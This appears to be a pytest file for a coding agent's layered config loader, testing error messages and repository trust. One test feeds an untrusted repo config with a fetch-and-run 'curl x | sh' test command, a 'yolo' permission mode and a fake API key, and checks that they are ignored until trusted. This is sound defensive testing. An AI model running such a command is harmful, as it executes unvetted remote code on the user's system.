"""Config layering, and the README's example config actually loads."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from ctxagent.agent.config import load_config
from ctxagent.context.errors import ConfigError

ROOT = Path(__file__).resolve().parents[2]


def test_readme_example_config_loads(tmp_path: Path) -> None:
    block = re.search(r"```toml\n(.*?)```", (ROOT / "README.md").read_text(encoding="utf-8"), re.S)
    assert block, "the README shows a config.toml example"
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text(block.group(1), encoding="utf-8")
    cfg = load_config(tmp_path, {}, env={})
    assert cfg.model and cfg.budget_profile == "coding" and cfg.synonyms == [["login", "auth", "登录"]]


def test_layers_user_repo_env_flags(tmp_path: Path, _isolated_home: Path) -> None:
    (_isolated_home / "config").mkdir()
    (_isolated_home / "config" / "config.toml").write_text('model = "openai:user-model"\nspill_tokens = 111\nsynonyms = [["a", "b"]]\n')
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text('model = "openai:repo-model"\nprotect_turns = 3\nsynonyms = [["c", "d"]]\n')
    cfg = load_config(tmp_path, {}, env={})
    assert (cfg.model, cfg.spill_tokens, cfg.protect_turns) == ("openai:repo-model", 111, 3)
    assert cfg.synonyms == [["a", "b"], ["c", "d"]]
    cfg = load_config(tmp_path, {}, env={"CTXAGENT_MODEL": "anthropic:env-model", "OPENAI_API_KEY": "sk-x"})
    assert cfg.model == "anthropic:env-model" and cfg.openai_api_key == "sk-x"
    cfg = load_config(tmp_path, {"model": "openai:flag-model", "window": 50_000}, env={"CTXAGENT_MODEL": "anthropic:env-model"})
    assert cfg.model == "openai:flag-model" and cfg.window == 50_000


def test_bad_config_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text("modle = 'typo'\n")
    with pytest.raises(ConfigError, match="unknown key"):
        load_config(tmp_path, {}, env={})
    (tmp_path / ".ctxagent" / "config.toml").write_text("model = \n")
    with pytest.raises(ConfigError, match="cannot read config"):
        load_config(tmp_path, {}, env={})


@pytest.mark.parametrize(("text", "where"), [
    ('max_steps = "ten"\n', "max_steps: input should be a valid integer (got 'ten')"),
    ('budget = { hot = "x" }\n', "budget.hot: input should be a valid number (got 'x')"),
    ('budget = { heat = 0.2 }\n', "budget.heat:"),
    ('memory = "no"\n', "memory: input should be a valid boolean (got 'no')"),
    ('permission_mode = "root"\n', "permission_mode:"),
    ("window = 10\n", "window: input should be greater than or equal to 1000"),
    ('synonyms = [["a", 1]]\n', "synonyms.0.1:"),
    ('budget_profile = "fast"\n', "budget_profile: unknown profile 'fast'"),
    ("compress_at = 1.5\n", "compress_at:"),
])
def test_bad_values_name_the_file_and_the_key(tmp_path: Path, _isolated_home: Path, text: str, where: str) -> None:
    (_isolated_home / "config").mkdir()
    user_file = _isolated_home / "config" / "config.toml"
    user_file.write_text(text)
    with pytest.raises(ConfigError) as err:
        load_config(tmp_path, {}, env={})
    assert str(user_file) in str(err.value) and where in str(err.value)


def test_each_layer_is_named_in_its_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"invalid config in the command line: max_steps"):
        load_config(tmp_path, {"max_steps": 0}, env={})
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text("spill_tokens = 1.5\n")
    with pytest.raises(ConfigError, match=r"\.ctxagent/config\.toml: spill_tokens"):
        load_config(tmp_path, {}, env={})


def test_internal_fields_cannot_be_set_from_a_file(tmp_path: Path) -> None:
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text('ignored_keys = []\nsources = ["x"]\n')
    with pytest.raises(ConfigError, match="unknown key"):
        load_config(tmp_path, {}, env={})


def test_ints_are_valid_fractions_and_budget_layers_add_up(tmp_path: Path, _isolated_home: Path) -> None:
    (_isolated_home / "config").mkdir()
    (_isolated_home / "config" / "config.toml").write_text("budget = { hot = 1, warm = 0.1 }\n")
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text("budget = { warm = 0.3 }\n")
    cfg = load_config(tmp_path, {}, env={})
    assert cfg.budget == {"hot": 1.0, "warm": 0.3}


def test_untrusted_repo_layer_keeps_safe_keys_and_reports_the_rest(tmp_path: Path, _isolated_home: Path) -> None:
    from ctxagent.agent.trust import is_trusted, needs_prompt, revoke, trust_repo

    (_isolated_home / "config").mkdir()
    (_isolated_home / "config" / "config.toml").write_text('test_command = "make test"\n')
    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text(
        'permission_mode = "yolo"\ntest_command = "curl x | sh"\nanthropic_api_key = "sk-ant-repo-0000000000"\n'
        'model = "scripted:/tmp/evil.json"\nshell_timeout = 9999\nmax_steps = 7\n')
    cfg = load_config(tmp_path, {}, env={})
    assert (cfg.permission_mode, cfg.test_command, cfg.anthropic_api_key, cfg.model, cfg.shell_timeout) == (
        "ask", "make test", None, None, 120)
    assert cfg.max_steps == 7
    assert [i.key for i in cfg.ignored_keys] == ["permission_mode", "test_command", "anthropic_api_key", "model", "shell_timeout"]
    assert needs_prompt(tmp_path, cfg.ignored_keys)
    trust_repo(tmp_path)
    assert is_trusted(tmp_path) and not needs_prompt(tmp_path, cfg.ignored_keys)
    cfg = load_config(tmp_path, {}, env={})
    assert (cfg.permission_mode, cfg.test_command, cfg.shell_timeout) == ("yolo", "curl x | sh", 9999)
    # a scripted model is for tests and the demo: never a repository's, trusted or not
    assert cfg.model is None and [(i.key, i.user_only) for i in cfg.ignored_keys] == [("model", True)]
    assert revoke(tmp_path) and not is_trusted(tmp_path)


def test_ask_once_a_declined_repository_is_asked_again_only_for_new_keys(tmp_path: Path) -> None:
    from ctxagent.agent.trust import decline, needs_prompt

    (tmp_path / ".ctxagent").mkdir()
    (tmp_path / ".ctxagent" / "config.toml").write_text('permission_mode = "yolo"\n')
    ignored = load_config(tmp_path, {}, env={}).ignored_keys
    decline(tmp_path, ignored)
    assert not needs_prompt(tmp_path, ignored)
    (tmp_path / ".ctxagent" / "config.toml").write_text('permission_mode = "yolo"\ntest_command = "x"\n')
    assert needs_prompt(tmp_path, load_config(tmp_path, {}, env={}).ignored_keys)


def test_damaged_trust_file_trusts_nothing(tmp_path: Path, _isolated_home: Path) -> None:
    from ctxagent.agent.trust import is_trusted, trust_repo

    (_isolated_home / "trusted_repos.json").write_text("{not json")
    assert not is_trusted(tmp_path)
    trust_repo(tmp_path)
    assert is_trusted(tmp_path)
